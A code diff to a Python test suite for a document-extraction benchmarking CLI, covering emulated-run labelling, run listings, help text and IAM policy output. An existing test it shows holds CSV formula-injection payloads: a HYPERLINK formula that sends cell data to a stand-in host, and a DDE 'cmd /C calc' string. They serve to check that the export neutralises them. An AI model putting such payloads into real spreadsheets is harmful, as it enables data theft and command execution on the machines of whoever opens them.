@@ -47,10 +47,10 @@ def test_unknown_backend_is_one_clear_line(capsys, tmp_path):
 def test_rescore_reparses_stored_raw_text_without_a_model(results, capsys):
     store = RunStore(results)
     run_id = store.resolve("latest")
-    before = {d["doc_id"]: d["doc_f1"] for d in store.documents(run_id)}
+    before = {d.doc_id: d.doc_f1 for d in store.documents(run_id)}
     store._write("UPDATE documents SET doc_f1=0, scores_json='[]' WHERE run_id=?", (run_id,))
     assert main(["rescore", "latest", "--results", str(results)]) == 0
-    after = {d["doc_id"]: d["doc_f1"] for d in store.documents(run_id)}
+    after = {d.doc_id: d.doc_f1 for d in store.documents(run_id)}
     assert after == pytest.approx(before)
 
 
@@ -168,3 +168,90 @@ def test_export_neutralises_formulas_in_every_csv_it_writes(tmp_path):
     assert delimiter == ";" and not bad
     assert {r["image_file"]: r["SUPPLIER_NAME"] for _, r in rows} == {
         "=cmd.png": '=HYPERLINK("http://x/?"&A1)', "ok.png": "+1+cmd|' /C calc'!A0"}
+
+
+# --- what a newcomer sees (issue 13 §6, §8) ---------------------------------------------------------
+
+def test_an_emulated_run_is_labelled_and_a_resume_shows_the_runs_f1(tmp_path, monkeypatch, capsys):
+    """The summary of an emulated run says EMULATED beside its F1; after a resume the F1 shown is the
+    whole run's (mean and median, failed excluded and as 0), the invocation's only labelled apart."""
+    pytest.importorskip("boto3")
+    from migbench.emulator import GroundTruthResponder, run_emulator
+
+    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "testing")
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "testing")
+    monkeypatch.setenv("COLUMNS", "200")
+    with run_emulator(responder=GroundTruthResponder(load_dataset(SYNTH))) as emu:
+        monkeypatch.setenv("AWS_ENDPOINT_URL_BEDROCK_RUNTIME", emu.url)
+        base = ["run", "--backend", "nova-pro", "--results", str(tmp_path), "--allow-loopback"]
+        assert main([*base, "--limit", "2"]) == 0
+        first = capsys.readouterr()
+        assert main([*base, "--limit", "4"]) == 0
+        second = capsys.readouterr()
+    assert "[EMULATED]" in first.err and "EMULATED (answers from a local emulator" in first.err
+    assert "mean 1.000, median 1.000 over 2 documents (failed excluded" in first.err
+    assert "incumbent scoring" in first.err and "this invocation only" not in first.err
+    # resumed: 2 stored + 2 new; the headline covers all 4, the invocation's figure is labelled
+    assert "mean 1.000, median 1.000 over 4 documents (0 failed, counted as 0)" in second.err
+    assert "mean doc F1, this invocation only" in second.err and "over the 2 documents done now" in second.err
+    assert first.out.strip() == second.out.strip()  # the same run id, for rescore/export
+
+
+def test_runs_never_cuts_run_ids_at_80_columns(tmp_path, monkeypatch, capsys):
+    from migbench.store import RunMeta
+
+    store = RunStore(tmp_path)
+    for backend, model in (("au-claude-sonnet-4-5", "au.anthropic.claude-sonnet-4-5-20250929-v1:0"),
+                           ("ocr-baseline", "rapidocr-onnxruntime-1.4.4")):
+        store.open_run(RunMeta(backend, "bedrock", model, {}, str(SYNTH), "d" * 64, 30, "p" * 64, "kv"))
+    monkeypatch.setenv("COLUMNS", "80")
+    assert main(["runs", "--results", str(tmp_path)]) == 0
+    out = capsys.readouterr().out
+    run_ids = [r.run_id for r in RunStore(tmp_path).runs()]
+    assert len(run_ids) == 2 and all(len(line) <= 80 for line in out.splitlines())
+    for run_id in run_ids:
+        assert run_id in out  # whole, on one line, copyable into rescore/export
+
+
+@pytest.mark.parametrize("command", [["runs"], ["rescore", "latest"], ["export", "latest", "--out", "x.csv"]])
+def test_a_mistyped_results_folder_is_one_line_and_creates_nothing(tmp_path, monkeypatch, capsys, command):
+    monkeypatch.chdir(tmp_path)
+    assert main([*command, "--results", "resutls"]) == 2
+    err = capsys.readouterr().err
+    assert "resutls" in err and "no migbench run store" in err and len(err.strip().splitlines()) == 1
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_run_help_names_the_backends_without_importing_adapters():
+    code = ("import sys; from migbench.cli import build_parser\n"
+            "h = build_parser()._subparsers._group_actions[0].choices['run'].format_help()\n"
+            "print(h); print('ADAPTERS', sorted(m for m in sys.modules if m.startswith('migbench.adapters')))")
+    p = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60, check=True,
+                       env={**__import__("os").environ, "COLUMNS": "400"})
+    text = " ".join(p.stdout.split())
+    assert "backend to run (default: ocr-baseline): ocr-baseline, nova-pro, nova-lite," in text
+    assert "qwen2.5-vl" in text and "only the first N documents" in text
+    assert "ADAPTERS ['migbench.adapters']" in p.stdout or "ADAPTERS []" in p.stdout
+
+
+def test_generate_help_names_the_migbench_command(capsys):
+    with pytest.raises(SystemExit):
+        main(["generate", "--help"])
+    out = capsys.readouterr().out
+    assert out.startswith("usage: migbench generate") and "python -m" not in out
+
+
+def test_parse_refuses_an_unknown_document_type_with_the_known_ones(monkeypatch, capsys):
+    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(b"TOTAL_AMOUNT: $1\n")))
+    assert main(["parse", "--doc-type", "foo"]) == 2
+    err = capsys.readouterr().err
+    assert "unknown document type 'foo'" in err and "bank_statement, invoice, receipt" in err
+
+
+def test_iam_policy_writes_a_file_only_when_asked(tmp_path, monkeypatch, capsys):
+    monkeypatch.chdir(tmp_path)
+    assert main(["iam-policy", "--backend", "nova-pro"]) == 0
+    assert json.loads(capsys.readouterr().out)["Version"] == "2012-10-17"
+    assert list(tmp_path.iterdir()) == []
+    assert main(["iam-policy", "--backend", "nova-pro", "--out", "p.json"]) == 0
+    assert json.loads((tmp_path / "p.json").read_text())["Version"] == "2012-10-17"
